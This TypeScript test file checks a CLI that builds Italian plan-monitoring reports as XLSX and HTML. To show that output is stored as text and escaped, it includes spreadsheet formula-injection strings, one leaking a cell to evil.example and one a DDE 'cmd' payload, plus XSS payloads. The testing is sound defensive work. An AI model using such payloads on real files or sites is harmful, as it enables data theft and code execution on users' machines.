import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { load } from 'cheerio';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.ts';
import { repoRoot, runBinary, runInProcess } from '../helpers/run-cli.ts';
import { tempPlan } from '../helpers/temp-plan.ts';

const fixture = (name: string) => path.join(repoRoot, 'test/fixtures', name);

/** The base plan with the monitoring projects and, optionally, more projects over it. */
function reportPlan(...overlays: string[]): string {
  const root = tempPlan(fixture('monitoring'));
  for (const overlay of overlays) cpSync(fixture(overlay), path.join(root, 'plan'), { recursive: true });
  return root;
}

const run = (root: string, argv: string[]) => runInProcess([...argv, '--plan', root], { cwd: root });

async function readWorkbook(file: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook;
}

/** A sheet's rows as objects keyed by header. */
function sheetRows(workbook: ExcelJS.Workbook, name: string): Record<string, ExcelJS.Cell>[] {
  const sheet = workbook.getWorksheet(name)!;
  const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const rows: Record<string, ExcelJS.Cell>[] = [];
  for (let index = 2; index <= sheet.rowCount; index++) {
    const row = sheet.getRow(index);
    rows.push(Object.fromEntries(headers.map((header, column) => [header, row.getCell(column + 1)])));
  }
  return rows;
}

describe('psttm report', () => {
  it('writes both formats into reports/, named with the as-of date, and prints their paths', async () => {
    const root = reportPlan();
    const result = await run(root, ['report', '--as-of', '2026-01-01']);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('reports/monitoraggio-2026-01-01.xlsx\nreports/monitoraggio-2026-01-01.html\n');
    expect(readdirSync(path.join(root, 'reports')).sort()).toEqual(['.psttm-reports.json', 'monitoraggio-2026-01-01.html', 'monitoraggio-2026-01-01.xlsx']);
  });

  it('fills the workbook with real numbers, formats and the engine figures', async () => {
    const root = reportPlan();
    expect((await run(root, ['report', '--as-of', '2026-01-01', '--format', 'xlsx'])).code).toBe(0);
    const workbook = await readWorkbook(path.join(root, 'reports/monitoraggio-2026-01-01.xlsx'));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Sintesi', 'Missioni', 'Obiettivi', 'Progetti', 'Indicatori', 'Copertura', 'Territorio', 'DUP', 'Comuni senza DUP', 'Priorità', 'Qualità dati', 'Metodo']);
    expect(workbook.title).toBe('Piano di prova: Rapporto di monitoraggio');
    expect(workbook.created.toISOString()).toBe('2026-01-01T00:00:00.000Z');

    const objectives = sheetRows(workbook, 'Obiettivi');
    const m11 = objectives.find((row) => row.Codice!.value === 'M1.1')!;
    // M1.1 = (1×0.4 + 0.5×0.5) / 1.5; funding: alpha-hub 1000 × 1.
    expect(m11.Avanzamento!.value).toBeCloseTo(0.65 / 1.5, 12);
    expect(m11.Avanzamento!.numFmt).toBe('0.0%');
    expect(m11.Stato!.value).toBe('a rischio');
    expect(m11['Risorse (€)']!.value).toBe(1000);
    expect(m11['Risorse (€)']!.numFmt).toBe('#,##0 "€"');
    expect(m11['Città metropolitana']!.value).toBe('coperta');
    // Links to the projects' rows: alpha-hub is row 2 of Progetti, beta-park row 3.
    expect(m11['Progetto collegato 1']!.value).toEqual({ formula: `HYPERLINK("#'Progetti'!A2","alpha-hub")`, result: 'alpha-hub' });
    expect(m11['Progetto collegato 2']!.value).toMatchObject({ result: 'beta-park' });
    expect(sheetRows(workbook, 'Progetti').map((row) => row.Codice!.value)).toEqual(['alpha-hub', 'beta-park']);

    const summary = Object.fromEntries(sheetRows(workbook, 'Sintesi').map((row) => [String(row.Voce!.value), row.Valore!]));
    expect(summary['Avanzamento del piano']!.value).toBeCloseTo((0.65 / 1.5 + 0.5) / 2, 12);
    expect(summary['Avanzamento del piano']!.numFmt).toBe('0.0%');
    expect(summary['Dati al']!.value).toEqual(new Date('2026-01-01T00:00:00Z'));
    expect(summary['Obiettivi strategici']!.value).toBe(3);

    const indicator = sheetRows(workbook, 'Indicatori')[0]!;
    expect([indicator.Baseline!.value, indicator.Target!.value, indicator['Ultimo valore']!.value, indicator['Fonte ultimo valore']!.value]).toEqual([0, 100, 40, 'doc']);
    expect(indicator['Data ultimo valore']!.value).toEqual(new Date('2025-12-01T00:00:00Z'));

    const sheet = workbook.getWorksheet('Obiettivi')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    // 14 columns, then one per linked project (2 at most).
    expect(sheet.autoFilter).toBe('A1:P1');
    // beta-park states no funding: counted in the base, never as 0 €.
    expect(m11['Progetti che dichiarano le risorse']!.value).toBe(1);
    const projects = sheetRows(workbook, 'Progetti');
    expect(projects.find((row) => row.Codice!.value === 'beta-park')!['Risorse (€)']?.value ?? null).toBeNull();
  });

  it('stores text that looks like a formula as text, never as a formula', async () => {
    const root = reportPlan('report-hostile');
    expect((await run(root, ['report', '--as-of', '2026-11-01', '--format', 'xlsx'])).code).toBe(0);
    const workbook = await readWorkbook(path.join(root, 'reports/monitoraggio-2026-11-01.xlsx'));
    const project = sheetRows(workbook, 'Progetti').find((row) => row.Codice!.value === 'formula-title')!;
    for (const [cell, text] of [
      [project.Titolo!, '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'],
      [project.Capofila!, "+cmd|' /C calc'!A0"],
    ] as const) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(text);
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
    }
    const indicator = sheetRows(workbook, 'Indicatori').find((row) => row.Codice!.value === 'misura' && row.Indicatore!.value !== 'Utenti serviti')!;
    expect(indicator.Indicatore!.type).toBe(ExcelJS.ValueType.String);
    expect(indicator.Unità!.value).toBe('-n');
    expect(indicator.Unità!.numFmt).toBe('@');
  });

  it('prints in the HTML the same figures as psttm progress and coverage', async () => {
    const root = reportPlan();
    expect((await run(root, ['report', '--as-of', '2026-01-01', '--format', 'html'])).code).toBe(0);
    const progress = JSON.parse((await run(root, ['progress', '--as-of', '2026-01-01', '--json'])).stdout);
    const coverage = JSON.parse((await run(root, ['coverage', '--as-of', '2026-01-01', '--json'])).stdout);
    const $ = load(readFileSync(path.join(root, 'reports/monitoraggio-2026-01-01.html'), 'utf8'));
    const figure = (name: string) => $(`[data-figure="${name}"]`);
    const value = (name: string) => Number(figure(name).attr('data-value'));

    expect(value('plan-progress')).toBe(progress.plan.progress);
    expect(value('plan-expected')).toBe(progress.plan.expected);
    expect(figure('plan-status').attr('data-value')).toBe(progress.plan.status);
    expect(value('plan-coverage')).toBe(coverage.plan.share);
    expect(value('plan-funding')).toBe(coverage.plan.funding.amount);
    // Shown through Intl it-IT: 46,7% and 1000 € (Italian groups thousands from five digits).
    expect(figure('plan-progress').text()).toBe('46,7%');
    // beta-park states no funding: the sum says what it rests on.
    expect(figure('plan-funding').text()).toMatch(/^1000\s€$/);
    expect(figure('plan-funding').next('.base').text()).toBe('da 1 su 2 progetti');
    // The headline says what it rests on, and links to the rules.
    expect(figure('plan-sentence').text()).toMatch(/^Avanzamento del piano 46,7% \(atteso alla data .+\), calcolato su \d+ dei 2 progetti considerati/);
    expect(figure('plan-sentence').find('a').attr('href')).toBe('#method');
    expect($('#method dt').length).toBe(10);
    for (const mission of progress.missions) {
      const shown = figure(`${mission.id}-progress`).attr('data-value');
      expect(shown === '' ? null : Number(shown)).toBe(mission.progress);
    }
    for (const objective of progress.objectives) {
      const row = $(`tr[data-objective="${objective.id}"]`).last();
      const shown = row.find('td.num').eq(1).attr('data-value');
      expect(shown === '' ? null : Number(shown)).toBe(objective.progress);
      expect(row.find('td.status').attr('data-value')).toBe(objective.status);
    }
    for (const mission of coverage.missions) {
      const shown = $(`table[data-table="missions"] tr[data-mission="${mission.id}"] td.num`).first().attr('data-value');
      expect(shown === '' ? null : Number(shown)).toBe(mission.share);
    }
    // The gaps come before the missions: M1.2 has no project.
    expect($('#gaps').index()).toBeLessThan($('#M1').index());
    expect($('table[data-table="uncovered"] tr[data-objective]').map((_, row) => $(row).attr('data-objective')).get()).toEqual(['M1.2']);
  });

  it('makes the HTML self-contained and accessible: CSP, no scripts, no external URLs, th scope, chart text', async () => {
    const root = reportPlan();
    await run(root, ['report', '--as-of', '2026-01-01', '--format', 'html']);
    const html = readFileSync(path.join(root, 'reports/monitoraggio-2026-01-01.html'), 'utf8');
    const $ = load(html);
    expect($('html').attr('lang')).toBe('it');
    expect($('meta[http-equiv="Content-Security-Policy"]').attr('content')).toMatch(/^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'; img-src data:/);
    expect($('script')).toHaveLength(0);
    expect(html).not.toMatch(/(src|href)="(https?:)?\/\//);
    expect($('th:not([scope])')).toHaveLength(0);
    for (const chart of $('svg[role="img"]').toArray()) expect($(chart).attr('aria-label')).toMatch(/\S/);
    expect($('h2').map((_, heading) => $(heading).text()).get()).toEqual(
      expect.arrayContaining(['Sintesi', 'Lacune: obiettivi su cui nessuno lavora', 'Missione M1 · Alpha', 'Missione M2 · Beta', 'Qualità dei dati']),
    );
  });

  it('escapes hostile text from the data and from --title', async () => {
    const root = reportPlan('report-hostile');
    const title = '<script>alert(3)</script>"><img src=x onerror=alert(4)>';
    expect((await run(root, ['report', '--as-of', '2026-11-01', '--format', 'html', '--title', title])).code).toBe(0);
    const html = readFileSync(path.join(root, 'reports/monitoraggio-2026-11-01.html'), 'utf8');
    const $ = load(html);
    expect($('script')).toHaveLength(0);
    expect($('img')).toHaveLength(0);
    expect($('b')).toHaveLength(0);
    expect($('h1').text()).toBe(title);
    expect($('tr[data-project="markup-title"] th').first().text()).toContain('<script>alert(1)</script>"><img src=x onerror=alert(2)>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src&#x3D;x onerror&#x3D;alert(2)&gt;');
  });

  it('reports on a year: as of 31 December, with the change since the year before', async () => {
    const root = reportPlan('report-year');
    const result = await run(root, ['report', '--year', '2026', '--json']);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual({
      asOf: '2026-12-31',
      since: '2025-12-31',
      language: 'it',
      files: [
        { format: 'xlsx', path: 'reports/monitoraggio-2026-12-31.xlsx' },
        { format: 'html', path: 'reports/monitoraggio-2026-12-31.html' },
      ],
    });
    const $ = load(readFileSync(path.join(root, 'reports/monitoraggio-2026-12-31.html'), 'utf8'));
    // gamma-lab started in 2026 on M1.2: M1 covers 2 of 2 objectives instead of 1, the plan 3 of 3 instead of 2.
    expect(Number($('[data-figure="change-covered"]').attr('data-value'))).toBe(1);
    expect(Number($('[data-figure="change-coverage"]').attr('data-value'))).toBeCloseTo(1 / 3, 12);
    expect($('[data-figure="change-coverage"]').text()).toBe('+33,3 punti');
    const workbook = await readWorkbook(path.join(root, 'reports/monitoraggio-2026-12-31.xlsx'));
    const m1 = sheetRows(workbook, 'Missioni').find((row) => row.Codice!.value === 'M1')!;
    expect(m1['Variazione copertura (punti)']!.value).toBeCloseTo(50, 12);
    expect(m1['Variazione copertura (punti)']!.numFmt).toBe('+0.0;-0.0;0.0');
    expect(m1['Variazione obiettivi con progetti']!.value).toBe(1);
  });

  it('speaks English with --lang en, sheet names and numbers included', async () => {
    const root = reportPlan();
    const result = await run(root, ['report', '--as-of', '2026-01-01', '--lang', 'en']);
    expect(result.stdout).toBe('reports/monitoring-2026-01-01.xlsx\nreports/monitoring-2026-01-01.html\n');
    const workbook = await readWorkbook(path.join(root, 'reports/monitoring-2026-01-01.xlsx'));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Summary', 'Missions', 'Objectives', 'Projects', 'Indicators', 'Coverage', 'Territory', 'DUP', 'Comuni without DUP', 'Priorities', 'Data quality', 'Method']);
    const $ = load(readFileSync(path.join(root, 'reports/monitoring-2026-01-01.html'), 'utf8'));
    expect($('html').attr('lang')).toBe('en');
    expect($('[data-figure="plan-progress"]').text()).toBe('46.7%');
    expect($('time').first().text()).toBe('1 January 2026');
  });

  it('replaces its own unchanged reports, but not a file it did not write or that was edited, unless --force', async () => {
    const root = reportPlan();
    const args = ['report', '--as-of', '2026-01-01'];
    expect((await run(root, args)).code).toBe(0);
    expect((await run(root, args)).code).toBe(0);

    const html = path.join(root, 'reports/monitoraggio-2026-01-01.html');
    const xlsx = path.join(root, 'reports/monitoraggio-2026-01-01.xlsx');
    writeFileSync(html, 'edited by hand');
    const before = readFileSync(xlsx);
    const refused = await run(root, args);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toBe('psttm: reports/monitoraggio-2026-01-01.html already exists; pass --force to overwrite, or choose another path\n');
    expect(readFileSync(html, 'utf8')).toBe('edited by hand');
    expect(readFileSync(xlsx)).toEqual(before);

    expect((await run(root, [...args, '--force'])).code).toBe(0);
    expect(readFileSync(html, 'utf8')).toMatch(/^<!DOCTYPE html>/);
  });

  it('shows a progress bar on stderr only when stderr is a terminal, and keeps stdout for the paths', async () => {
    const root = reportPlan();
    let stdout = '';
    let stderr = '';
    const code = await main(['report', '--as-of', '2026-01-01', '--plan', root], {
      stdout: { write: (text: string) => (stdout += text) },
      stderr: { write: (text: string) => (stderr += text), isTTY: true, columns: 100 },
      cwd: root,
      env: { NO_COLOR: '1' },
      today: '2026-11-22',
    });
    expect(code).toBe(0);
    expect(stdout).toBe('reports/monitoraggio-2026-01-01.xlsx\nreports/monitoraggio-2026-01-01.html\n');
    // The bar starts at 0 of 5 steps (later steps are drawn at most every 100 ms) and is cleared at the end.
    expect(stderr).toMatch(/^[^\n]*psttm report \[░+\] 0\/5 /);
    expect(stderr.endsWith('\u001b[2K')).toBe(true);
    expect((await run(root, ['report', '--as-of', '2026-01-01'])).stderr).toBe('');
  });

  it('refuses --as-of with --year, and unknown formats', async () => {
    const root = reportPlan();
    const both = await run(root, ['report', '--as-of', '2026-01-01', '--year', '2025']);
    expect(both.code).toBe(2);
    expect(both.stderr).toMatch(/--year.*cannot be used with.*--as-of/);
    const format = await run(root, ['report', '--format', 'docx']);
    expect(format).toMatchObject({ code: 2, stderr: "psttm: option '--format <format>' argument 'docx' is invalid. unknown report format docx (one or more of, comma-separated: xlsx, html, pdf) (see psttm --help)\n" });
    expect(existsSync(path.join(root, 'reports'))).toBe(false);
  });

  it('asks for a Chromium to print the PDF, before reading or writing anything', async () => {
    const root = reportPlan();
    const noBrowser = await runInProcess(['report', '--format', 'pdf', '--plan', root], { cwd: root, env: { PATH: path.join(root, 'no-such-folder') } });
    expect(noBrowser).toEqual({ code: 2, stdout: '', stderr: "psttm: no Chromium found: install Debian's chromium or pass --chromium PATH\n" });
    const notPdf = await run(root, ['report', '--format', 'html', '--chromium', '/nonexistent']);
    expect(notPdf).toEqual({ code: 2, stdout: '', stderr: 'psttm: --chromium applies to the PDF report; add --format pdf\n' });
    expect(existsSync(path.join(root, 'reports'))).toBe(false);
  });
});

describe('report templates', () => {
  it('exports the shipped templates, and a report from the export is the same as the default one', async () => {
    const root = reportPlan();
    const exported = await runInProcess(['templates', 'export', 'my-templates'], { cwd: root });
    expect(exported.code).toBe(0);
    expect(exported.stdout.split('\n')).toEqual(expect.arrayContaining(['my-templates/report.hbs', 'my-templates/report.css', 'my-templates/partials/mission.hbs']));
    await run(root, ['report', '--as-of', '2026-01-01', '--format', 'html', '--out', 'a']);
    await run(root, ['report', '--as-of', '2026-01-01', '--format', 'html', '--out', 'b', '--templates', 'my-templates']);
    expect(readFileSync(path.join(root, 'b/monitoraggio-2026-01-01.html'), 'utf8')).toBe(readFileSync(path.join(root, 'a/monitoraggio-2026-01-01.html'), 'utf8'));
    expect(await runInProcess(['templates', 'export', 'my-templates'], { cwd: root })).toMatchObject({ code: 2, stderr: expect.stringMatching(/already exist; pass --force/) });
  });

  it('overrides a partial by name and adds a logo and CSS from the folder', async () => {
    const root = reportPlan();
    const dir = path.join(root, 'brand');
    mkdirSync(path.join(dir, 'partials'), { recursive: true });
    writeFileSync(path.join(dir, 'partials', 'footer.hbs'), '<footer><p class="brand">Studio Rossi · {{plan.title}}</p></footer>\n');
    writeFileSync(path.join(dir, 'report.css'), 'body { color: #222222; }\n');
    writeFileSync(path.join(dir, 'logo.svg'), '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>');
    writeFileSync(path.join(dir, 'footr.hbs'), 'typo');
    const result = await run(root, ['report', '--as-of', '2026-01-01', '--format', 'html', '--templates', 'brand']);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain('brand/footr.hbs is not a template psttm uses');
    const $ = load(readFileSync(path.join(root, 'reports/monitoraggio-2026-01-01.html'), 'utf8'));
    expect($('footer .brand').text()).toBe('Studio Rossi · Piano di prova');
    expect($('style').text()).toBe('body { color: #222222; }\n');
    expect($('img.logo').attr('src')).toMatch(/^data:image\/svg\+xml;base64,/);
  });

  it('names the template and line of a broken template, and writes nothing', async () => {
    const root = reportPlan();
    const dir = path.join(root, 'broken');
    mkdirSync(path.join(dir, 'partials'), { recursive: true });
    writeFileSync(path.join(dir, 'partials', 'summary.hbs'), '<section>\n{{#if headline}}\n<p>x</p>\n{{/each}}\n</section>\n');
    const result = await run(root, ['report', '--as-of', '2026-01-01', '--templates', 'broken']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^psttm: broken\/partials\/summary\.hbs:2:4: template "summary" is broken: if doesn't match each; fix it or delete it to use the default\n$/);
    expect(existsSync(path.join(root, 'reports'))).toBe(false);
  });

  it('refuses a template that prints a value unescaped', async () => {
    const root = reportPlan();
    const dir = path.join(root, 'raw');
    mkdirSync(dir);
    writeFileSync(path.join(dir, 'report.hbs'), '<html>\n<body>\n  <h1>{{{title}}}</h1>\n</body>\n</html>\n');
    const result = await run(root, ['report', '--as-of', '2026-01-01', '--templates', 'raw']);
    expect(result.code).toBe(2);
    expect(result.stderr).toBe('psttm: raw/report.hbs:3:7: template "report" prints a value unescaped ({{{ }}} or {{& }}); use {{ }} so that data is escaped\n');
  });

  it('never reads outside the templates folder', async () => {
    const root = reportPlan();
    const dir = path.join(root, 'linked');
    mkdirSync(path.join(dir, 'partials'), { recursive: true });
    writeFileSync(path.join(root, 'secret.hbs'), 'secret');
    symlinkSync(path.join(root, 'secret.hbs'), path.join(dir, 'partials', 'footer.hbs'));
    const result = await run(root, ['report', '--as-of', '2026-01-01', '--templates', 'linked']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/linked\/partials\/footer\.hbs points outside the templates folder/);
  });
});

describe('psttm report, spawned', () => {
  it('writes the reports of the shipped plan', async () => {
    const root = tempPlan();
    const result = await runBinary(['report', '--plan', repoRoot, '--as-of', '2026-11-22', '--out', 'out'], { cwd: root });
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('out/monitoraggio-2026-11-22.xlsx\nout/monitoraggio-2026-11-22.html\n');
    const workbook = await readWorkbook(path.join(root, 'out/monitoraggio-2026-11-22.xlsx'));
    // 70 objectives of missions 1-5; mission 6 has none in the source, and the report says so up front.
    expect(workbook.getWorksheet('Obiettivi')!.rowCount).toBe(71);
    const $ = load(readFileSync(path.join(root, 'out/monitoraggio-2026-11-22.html'), 'utf8'));
    expect($('#gaps [data-mission-not-transcribed]').attr('data-mission-not-transcribed')).toBe('M6');
    expect($('#M6 .callout').text()).toContain('La fonte non riporta la tabella degli obiettivi');
  });
});
